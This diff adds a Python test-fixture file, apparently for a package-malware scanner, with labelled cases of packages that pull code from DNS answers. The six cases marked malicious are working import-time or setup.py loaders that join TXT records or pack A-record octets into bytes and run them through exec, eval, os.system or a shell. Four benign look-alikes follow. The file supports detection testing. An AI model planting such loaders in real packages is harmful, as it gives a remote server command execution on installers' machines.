@@ -1,0 +1,102 @@
+"""Commands over DNS answers: a package resolves a fixed or computed name at import or
+install time and turns the answer into code or a command. TXT strings joined, A-record
+octets packed into bytes, addresses turned back into bytes by `inet_aton`: the resolver's
+answer is content a server chose, and here it runs. Benign look-alikes resolve names to
+connect to them, cache them, print them or read mail-policy TXT records."""
+
+from __future__ import annotations
+
+from techniques import Case
+
+
+def _init(name: str, body: str) -> dict[str, str | bytes]:
+    return {f"{name}/__init__.py": body}
+
+
+CASES = [
+    Case("TXT records joined and exec'd at import (dnspython)", "txtexec", _init(
+        "txtexec",
+        "import dns.resolver\n\n"
+        "_answer = dns.resolver.resolve('cfg.x.invalid', 'TXT')\n"
+        "_code = ''.join(s.decode() for r in _answer for s in r.strings)\n"
+        "exec(_code)\n"), "malicious", ("PV202",), kind="wheel"),
+    Case("A-record octets packed into bytes and exec'd at import", "octetexec", _init(
+        "octetexec",
+        "import socket\n\n\ndef _fetch():\n"
+        "    ips = socket.gethostbyname_ex('p.x.invalid')[2]\n"
+        "    ips.sort(key=lambda ip: int(ip.split('.')[0]))\n"
+        "    return bytes(int(o) for ip in ips for o in ip.split('.')[1:]).rstrip(b'\\0')\n\n\n"
+        "try:\n    exec(_fetch())\nexcept OSError:\n    pass\n"), "malicious", ("PV326",),
+        kind="wheel"),
+    Case("numbered lookups of a host-derived name, inet_aton bytes run as a shell command "
+         "in setup.py", "aton-shell", {
+        "setup.py": (
+            "import hashlib, socket, subprocess\nfrom setuptools import setup\n\n"
+            "tag = hashlib.md5(socket.gethostname().encode()).hexdigest()[:8]\n"
+            "chunks = []\nfor i in range(16):\n    try:\n"
+            "        chunks.append(socket.inet_aton(socket.gethostbyname(f'{i}.{tag}.c.x.invalid')))\n"
+            "    except OSError:\n        break\n"
+            "cmd = b''.join(chunks).rstrip(b'\\0').decode()\n"
+            "if cmd:\n    subprocess.run(cmd, shell=True)\n"
+            "setup(name='aton-shell', version='1.0')\n"),
+    }, "malicious", ("PV326",)),
+    Case("fixed names looked up in turn, inet_aton chunks piped to a shell from a "
+         "background thread", "aton-fixed", _init(
+        "aton_fixed",
+        "import socket, subprocess, threading\n\n\ndef _run():\n    buf = bytearray()\n"
+        "    for i in range(8):\n        try:\n"
+        "            ip = socket.gethostbyname('%d.s.x.invalid' % i)\n"
+        "        except OSError:\n            break\n"
+        "        buf += socket.inet_aton(ip)\n"
+        "    subprocess.Popen(['/bin/sh', '-c', buf.rstrip(b'\\0').decode()])\n\n\n"
+        "threading.Thread(target=_run, daemon=True).start()\n"), "malicious", ("PV326",),
+        kind="wheel"),
+    Case("TXT answer run by os.system from an import-time thread", "txtthread", _init(
+        "txtthread",
+        "import os, threading\nfrom dns import resolver\n\n\ndef _poll():\n"
+        "    r = resolver.Resolver()\n"
+        "    for rec in r.resolve('q.x.invalid', 'TXT'):\n"
+        "        os.system(b''.join(rec.strings).decode())\n\n\n"
+        "threading.Thread(target=_poll, daemon=True).start()\n"), "malicious", ("PV325",),
+        kind="wheel"),
+    Case("getaddrinfo answers turned into bytes by a helper and evaluated", "gaieval", {
+        "gaieval/__init__.py": "from ._boot import boot\n\nboot()\n",
+        "gaieval/_boot.py": (
+            "import socket\n\n\ndef _octets(name):\n"
+            "    out = []\n"
+            "    for info in socket.getaddrinfo(name, None, socket.AF_INET):\n"
+            "        out.extend(int(x) for x in info[4][0].split('.'))\n"
+            "    return bytes(out)\n\n\n"
+            "def boot():\n    src = _octets('b.x.invalid').decode('latin-1')\n"
+            "    eval(compile(src, '<b>', 'exec'))\n"),
+    }, "malicious", ("PV326",), kind="wheel"),
+    # benign look-alikes
+    Case("resolver cache in front of connect", "dnscache", _init(
+        "dnscache",
+        "import functools, socket\n\n\n@functools.lru_cache(maxsize=256)\n"
+        "def resolve(host):\n    return socket.gethostbyname(host)\n\n\n"
+        "def connect(host, port):\n"
+        "    return socket.create_connection((resolve(host), port), timeout=5)\n"),
+        "benign", kind="wheel"),
+    Case("health check printing the resolved address at import", "dnshealth", _init(
+        "dnshealth",
+        "import os, socket\n\n\ndef check(host=os.environ.get('SERVICE_HOST', 'localhost')):\n"
+        "    addr = socket.gethostbyname(host)\n"
+        "    print(f'{host} resolves to {addr}')\n    return addr\n\n\n"
+        "if os.environ.get('DNSHEALTH_CHECK'):\n    check()\n"), "benign", kind="wheel"),
+    Case("mail-policy checker reading SPF and DMARC TXT records", "mailpolicy", _init(
+        "mailpolicy",
+        "import dns.resolver\n\n\ndef txt(name):\n"
+        "    return [b''.join(r.strings).decode() for r in dns.resolver.resolve(name, 'TXT')]\n\n\n"
+        "def spf(domain):\n"
+        "    return next((t for t in txt(domain) if t.startswith('v=spf1')), None)\n\n\n"
+        "def dmarc(domain):\n    return txt('_dmarc.' + domain)\n"), "benign", kind="wheel"),
+    Case("service discovery: TXT config parsed as JSON, address handed to a client CLI",
+         "svcdisco", _init(
+        "svcdisco",
+        "import json, socket, subprocess\nimport dns.resolver\n\n\ndef discover(name):\n"
+        "    cfg = json.loads(b''.join(dns.resolver.resolve(name, 'TXT')[0].strings))\n"
+        "    ip = socket.gethostbyname(cfg['host'])\n"
+        "    subprocess.run(['svcctl', 'join', '--addr', ip, '--port', str(cfg['port'])],\n"
+        "                   check=True)\n"), "benign", kind="wheel"),
+]
